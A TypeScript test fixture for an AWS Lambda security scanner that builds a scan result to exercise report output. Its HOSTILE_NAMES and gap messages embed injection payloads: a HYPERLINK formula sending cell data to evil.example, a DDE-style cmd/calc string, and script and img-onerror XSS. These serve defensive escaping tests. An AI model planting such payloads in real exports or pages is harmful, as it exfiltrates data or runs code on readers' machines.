import { existsSync } from "node:fs";
import { ALL_CHECKS } from "../../checks/index.js";
import type { AnyCheck } from "../../src/engine/check.js";
import { scanResultSchema, type ScanResult } from "../../src/engine/result-schema.js";
import { demoSnapshotPath } from "../../src/package-info.js";
import type { ReportContext } from "../../src/report/types.js";
import { readSnapshot } from "../../src/snapshot/io.js";
import { evaluateForTest, evaluateWithoutRoles } from "../support/evaluate.js";
import { ACCOUNT_ID, functionArn, secureFunction, snapshotWith } from "../support/fixtures.js";

/** Function names an attacker who can create functions (or a careless tag) might choose. */
export const HOSTILE_NAMES = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  script: "<script>alert(1)</script>",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1+1)",
  tab: "\tindented",
  carriageReturn: "\r=1+1",
  markdown: "[click](https://evil.example) **bold** | pipe `tick`",
  img: '"><img src=x onerror=alert(2)>',
} as const;

const FIXED_NOW = new Date("2026-11-01T12:30:00.000Z");

/**
 * A scan of an account with every kind of row a report must handle: failed, unknown, passed and
 * suppressed results, two regions, a collection gap, a note (a slower read path), an expired and an
 * unmatched suppression, and functions with hostile names. Built through the real schema and the real engine.
 */
export function fixtureScanResult(): ScanResult {
  const euWest = "eu-west-1";
  const usEast = "us-east-1";
  const snapshot = snapshotWith({
    regions: [euWest, usEast],
    functions: [
      secureFunction({ name: "payments-api", url: { authType: "NONE", url: "https://x.lambda-url.eu-west-1.on.aws/", cors: null }, tracingMode: "PassThrough" }),
      secureFunction({ name: "orders-worker" }),
      secureFunction({ name: "legacy-report", runtime: "python3.8", tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.formula, tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.script, region: usEast, arn: functionArn("script-fn", usEast), url: undefined, tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.plus, arn: functionArn("plus-fn"), runtime: "nodejs16.x" }),
      secureFunction({ name: HOSTILE_NAMES.minus, arn: functionArn("minus-fn"), tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.at, arn: functionArn("at-fn"), tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.tab, arn: functionArn("tab-fn"), tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.carriageReturn, arn: functionArn("cr-fn"), tracingMode: "PassThrough" }),
      secureFunction({ name: HOSTILE_NAMES.markdown, arn: functionArn("md-fn"), url: { authType: "NONE", cors: null } }),
      secureFunction({ name: HOSTILE_NAMES.img, region: usEast, arn: functionArn("img-fn", usEast), tracingMode: undefined }),
      secureFunction({ name: "image-fn", region: usEast, arn: functionArn("image-fn", usEast), runtime: null, packageType: "Image", handler: null }),
    ],
    gaps: [
      {
        service: "lambda",
        operation: "GetFunctionUrlConfig",
        region: usEast,
        resourceArn: functionArn("script-fn", usEast),
        errorCode: "AccessDeniedException",
        message: "User is not authorized <img src=x onerror=alert(3)>",
      },
      { service: "lambda", operation: "ListFunctions", region: usEast, errorCode: "ThrottlingException", message: "Rate exceeded", partial: true },
    ],
    notes: [
      {
        service: "lambda",
        operation: "ListCodeSigningConfigs",
        region: euWest,
        message: "not available at this endpoint (UnparseableResponse, HTTP 404 <h1>Not Found</h1>): code signing read per function",
      },
    ],
  });
  // The fixture has no roles, so no role analysis expands an action.
  const result = evaluateWithoutRoles(snapshot, {
    checks: ALL_CHECKS,
    now: FIXED_NOW,
    startedAt: new Date("2026-11-01T12:29:00.000Z"),
    scanId: "fixture-scan",
    suppressions: [
      { checkId: "function-url-auth-none", resource: functionArn("md-fn"), reason: "Public webhook, signature checked in code", expires: "2027-06-30" },
      { checkId: "function-tracing-disabled", resource: "arn:aws:lambda:*:*:function:gone-*", reason: "Old functions being retired soon" },
      { checkId: "function-tracing-disabled", resource: functionArn("orders-worker"), reason: "Expired acceptance of risk", expires: "2026-01-01" },
    ],
  });
  return scanResultSchema.parse(result);
}

/** The demo account scan when the demo snapshot exists, else the fixture account. */
export async function demoScanResult(): Promise<{ result: ScanResult; source: "demo" | "fixtures" }> {
  if (!existsSync(demoSnapshotPath)) return { result: fixtureScanResult(), source: "fixtures" };
  const snapshot = await readSnapshot(demoSnapshotPath);
  const result = await evaluateForTest(snapshot, { checks: ALL_CHECKS, now: FIXED_NOW, scanId: "demo-scan" });
  if (result.checkErrors.length > 0) throw new Error(`demo scan had check errors: ${JSON.stringify(result.checkErrors[0])}`);
  return { result: scanResultSchema.parse(result), source: "demo" };
}

export function contextFor(result: ScanResult, checks: readonly AnyCheck[] = ALL_CHECKS): ReportContext {
  return { result, checks, color: false, width: 100 };
}

export { ACCOUNT_ID };
